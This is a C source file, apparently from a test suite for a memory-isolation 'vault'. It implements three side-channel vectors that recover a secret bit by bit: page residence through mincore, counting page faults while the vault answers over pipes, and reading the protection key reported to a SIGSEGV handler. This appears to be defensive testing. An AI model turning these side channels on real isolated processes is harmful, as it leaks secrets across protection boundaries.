/* SPDX-License-Identifier: Apache-2.0 */
/* Ways that learn of the secret from what vault does because of it: the pages that it uses, and
 * whether it has a key. Each octet is learned bit by bit. */
#include "attack.h"

#include <signal.h>
#include <sys/resource.h>
#include <ucontext.h>

#define BURST 8 /* pages that vault uses at once: more than others do meanwhile */

static volatile char *table; /* of vault, each page as yet unused */
static int questions[2], answers[2]; /* to vault, and of it */

bool secret_bit(int i) { return secret_octet((unsigned)i / 8) >> i % 8 & 1; }

static void note_bit(int i, bool is) { got[i / 8] = (char)((got[i / 8] & ~(1 << i % 8)) | is << i % 8); }

/* Memory of vault's own, behind its wall. */
static bool make_table(size_t size) {
	void *at = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (at == MAP_FAILED || (own_key() > 0 && pkey_mprotect(at, size, PROT_READ | PROT_WRITE, own_key()) != 0))
		return false;
	(void)madvise(at, size, MADV_NOHUGEPAGE);
	table = at;
	return true;
}

/* Vault looks things up in the table by the bits of the secret. */
static bool use_pages(void) {
	if (!make_table(BITS * PAGE))
		return false;
	for (int i = 0; i < BITS; i++)
		if (secret_bit(i))
			table[i * PAGE] = 1;
	return true;
}

static bool by_residence(void) {
	unsigned char used[BITS];
	if (mincore((void *)table, sizeof used * PAGE, used) != 0)
		return false;
	for (int i = 0; i < BITS; i++)
		note_bit(i, used[i] & 1);
	return true;
}

static bool open_questions(void) { return pipe(questions) == 0 && pipe(answers) == 0; }

static bool use_pages_when_asked(void) {
	char word;
	if (!make_table(BITS * BURST * PAGE))
		return false;
	for (int i = 0; i < BITS; i++) {
		if (read(questions[0], &word, 1) != 1)
			return false;
		for (int page = 0; secret_bit(i) && page < BURST; page++)
			table[(i * BURST + page) * PAGE] = 1;
		if (write(answers[1], &word, 1) != 1)
			return false;
	}
	return true;
}

static long page_faults(void) {
	struct rusage used;
	return getrusage(RUSAGE_SELF, &used) == 0 ? used.ru_minflt : 0;
}

/* Counts the faults of the process while vault answers. */
static bool by_counting(void) {
	char word;
	for (int i = 0; i < BITS; i++) {
		const long before = page_faults();
		if (write(questions[1], "?", 1) != 1 || read(answers[0], &word, 1) != 1)
			return false;
		note_bit(i, page_faults() - before >= BURST);
	}
	return true;
}

static char stack[262144];
static volatile int fault_key;

static void skip(int signal, siginfo_t *info, void *context) {
	(void)signal;
	fault_key = (int)info->si_pkey;
	((ucontext_t *)context)->uc_mcontext.gregs[REG_RIP] += 2;
}

/* Has a fault there, and is told the memory's key, which says whether vault has one. */
static bool by_key(void) {
	static int bits;
	const int parking = 2;
	const stack_t other = {.ss_sp = stack, .ss_size = sizeof stack};
	const struct sigaction action = {.sa_sigaction = skip, .sa_flags = SA_SIGINFO | SA_ONSTACK};
	struct sigaction librarys;
	stack_t was;
	char now;
	fault_key = -1;
	if (sigaltstack(&other, &was) != 0 || sigaction(SIGSEGV, &action, &librarys) != 0)
		return false;
	__asm__ volatile(".byte 0x8a, 0x07" : "=a"(now) : "D"(secret) : "memory"); /* mov (%rdi), %al */
	(void)sigaction(SIGSEGV, &librarys, NULL);
	(void)sigaltstack(&was, NULL);
	if (fault_key < 0)
		return false;
	note_bit(bits++, fault_key != parking);
	return true;
}

const struct vector watching_vectors[] = {
	{.name = "mincore", .attempt = by_residence, .prepare = use_pages},
	{.name = "fault-count", .attempt = by_counting, .prepare = open_questions, .meanwhile = use_pages_when_asked, .kind = VICTIM},
	{.name = "fault-key", .attempt = by_key, .kind = WATCHES},
	{0},
};
